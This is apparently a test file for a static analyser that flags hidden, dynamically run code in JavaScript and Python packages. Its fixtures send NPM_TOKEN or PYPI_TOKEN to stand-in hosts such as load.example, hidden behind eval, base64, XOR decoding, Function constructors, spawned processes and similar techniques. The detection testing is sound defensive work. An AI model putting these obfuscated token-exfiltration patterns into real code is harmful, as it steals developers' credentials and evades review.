import { describe, expect, it } from 'vitest';
import { readCodeFile } from '../../src/profiles/code-file.ts';
import { spellForEval, spellInSymbols } from '../support/symbols.ts';

const inner = "fetch('https://load.example/x', { body: process.env.NPM_TOKEN });";
const base64 = Buffer.from(inner).toString('base64');

/** Kinds and what they are about, of what a file does. */
function factsIn(code: string): readonly string[] {
  const { observations } = readCodeFile('index.js', code);
  return observations.map(({ kind, attributes, line }) =>
    [kind, attributes['destination'] ?? attributes['name'] ?? '', line].join(' '),
  );
}

describe('text that is run as code', () => {
  it.each<[string, string]>([
    ['eval', `\neval(${JSON.stringify(inner)});`],
    ['a text in base64', `\neval(Buffer.from('${base64}', 'base64').toString());`],
    ['a function with parameters', `\nnew Function('a', 'b', ${JSON.stringify(inner)})(1, 2);`],
    ['a function that returns', `\nFunction(${JSON.stringify(`return ${inner}`)})();`],
    ['a context', `\nrequire('vm').runInThisContext(${JSON.stringify(inner)});`],
    ['the loader of modules', `\nmodule._compile(${JSON.stringify(inner)}, 'x.js');`],
    [
      'a program of its own',
      `\nrequire('child_process').spawn(process.execPath, ['-e', ${JSON.stringify(inner)}]);`,
    ],
    [
      'a program of its own, by a command line',
      `\nrequire('child_process').exec('node -e "' + ${JSON.stringify(inner)} + '"');`,
    ],
    [
      'a file that is started',
      `\nconst fs = require('fs'), os = require('os'), cp = require('child_process'); const place = os.tmpdir() + '/a.js'; fs.writeFileSync(place, ${JSON.stringify(inner)}); cp.spawn('node', [place], { detached: true });`,
    ],
    [
      'a thread of its own',
      `\nnew (require('worker_threads').Worker)(${JSON.stringify(inner)}, { eval: true });`,
    ],
    [
      'a function that may wait',
      `\nnew (Object.getPrototypeOf(async function () {}).constructor)(${JSON.stringify(`await 1; return ${inner}`)})();`,
    ],
    [
      'a function that gives one after the other',
      `\nnew (Object.getPrototypeOf(function* () {}).constructor)(${JSON.stringify(`yield* []; return ${inner}`)})().next();`,
    ],
    ['an address that is made of it', `\nimport('data:text/javascript;base64,' + '${base64}');`],
    ['text in text', `\neval(${JSON.stringify(`eval(${JSON.stringify(inner)})`)});`],
    [
      'a decoder of the file',
      `\nfunction d(list) { let text = ''; for (const one of list) text += String.fromCharCode(one ^ 5); return text; } eval(d([${Array.from(inner, (one) => one.charCodeAt(0) ^ 5).join(',')}]));`,
    ],
    ['symbols alone', `\n${spellInSymbols(inner)};`],
    ['symbols alone by eval', `\n${spellForEval(inner)};`],
  ])('%s is code of the file', (_name, code) => {
    const facts = factsIn(code);
    expect(facts).toContain('network.connect load.example 2');
    expect(facts).toContain('environment.read NPM_TOKEN 2');
  });

  it.each([
    ['exec', (text: string) => `exec(base64.b64decode("${text}"))`],
    [
      'an interpreter of its own',
      (text: string) =>
        `subprocess.Popen([sys.executable, "-c", base64.b64decode("${text}").decode()])`,
    ],
  ])('by %s in Python is code of the file', (_name, run) => {
    const text = Buffer.from(
      'import os, requests\nrequests.post("https://load.example/x", data=os.environ["PYPI_TOKEN"])\n',
    ).toString('base64');
    const code = `import base64, subprocess, sys\n${run(text)}\n`;
    const facts = readCodeFile('a.py', code).observations.map(({ kind, attributes, line }) =>
      [kind, attributes['destination'] ?? attributes['name'] ?? '', line].join(' '),
    );
    expect(facts).toContain('network.connect load.example 2');
    expect(facts).toContain('environment.read PYPI_TOKEN 2');
  });

  it('is read when it is short and calls something', () => {
    const { observations } = readCodeFile('index.js', "eval('eval(c)');");
    expect(observations.map(({ attributes }) => attributes['form'])).toEqual([
      'constant',
      'dynamic',
    ]);
  });

  it('waits when what runs it waits', () => {
    const { observations } = readCodeFile(
      'index.js',
      `export function later() { eval(${JSON.stringify(inner)}); }`,
    );
    const connects = observations.filter(({ kind }) => kind === 'network.connect');
    expect(connects.map(({ inFunction }) => inFunction)).toEqual([true]);
  });

  it('loads the modules that it names', () => {
    const { specifiers } = readCodeFile('index.js', 'eval("require(\'./payload.js\')");');
    expect(specifiers).toEqual(['./payload.js']);
  });

  it('says nothing when it is no code', () => {
    expect(factsIn("eval('this is ( no code at all');")).toEqual(['code.evaluate  1']);
  });

  it('ends when texts hold texts without an end', () => {
    const many = Array.from({ length: 300 }, () => `eval("a".repeat(60000));`).join('');
    const deep = Array.from({ length: 100 }, () => `eval(${JSON.stringify(many)});`).join('');
    const start = performance.now();
    factsIn(deep);
    expect(performance.now() - start).toBeLessThan(15_000);
  });
});

describe('globals that are written as text', () => {
  it.each<[string, string, string]>([
    [
      'the global object',
      "const root = Function('return this')(); root['fet' + 'ch']('https://load.example/x');",
      'network.connect load.example 1',
    ],
    [
      'the process',
      "new Function('return process')().env.NPM_TOKEN;",
      'environment.read NPM_TOKEN 1',
    ],
    [
      'the process in pieces',
      "const get = new Function('return ' + 'process'); use(get().env.NPM_TOKEN);",
      'environment.read NPM_TOKEN 1',
    ],
    [
      'require',
      "eval('require')('https').get('https://load.example/x');",
      'network.connect load.example 1',
    ],
  ])('%s', (_name, code, fact) => {
    expect(factsIn(code)).toContain(fact);
  });

  it('leaves other functions alone', () => {
    expect(factsIn("const f = new Function('a', 'return a.env'); f(x).NPM_TOKEN;")).toEqual([
      'code.evaluate  1',
    ]);
  });
});

it('is told where more texts are run as code than are looked at', () => {
  const unreadAt = (count: number): readonly string[] => {
    const runs = Array.from({ length: count }, (_, at) => `eval('use(${at}, "${at}");');`);
    return readCodeFile('index.js', runs.join('\n')).unread.map(({ detail }) => detail);
  };
  expect(unreadAt(200)).toEqual([]);
  expect(unreadAt(201)).toEqual(['it runs more texts as code than are looked at']);
});

it('looks at what is run behind a text that is too long', () => {
  const run = `eval("fetch('https://take.example', { body: process.env.NPM_TOKEN })");`;
  const { observations, unread } = readCodeFile(
    'index.js',
    `eval('${' '.repeat(2_000_001)}'); ${run}`,
  );
  expect(unread.map(({ detail }) => detail)).toEqual([
    'it runs more texts as code than are looked at',
  ]);
  expect(observations.map(({ kind }) => kind)).toContain('data.flow');
});

function nested(depth: number): string {
  return depth === 0
    ? "fetch('https://take.example');"
    : `eval(${JSON.stringify(nested(depth - 1))});`;
}

it('is looked at within what is run within what is run, and told where that goes deeper', () => {
  const seenAt = (depth: number): readonly [boolean, number] => {
    const { observations, unread } = readCodeFile('index.js', nested(depth));
    return [observations.some(({ kind }) => kind === 'network.connect'), unread.length];
  };
  expect([1, 4, 8, 9].map(seenAt)).toEqual([
    [true, 0],
    [true, 0],
    [true, 0],
    [false, 1],
  ]);
});
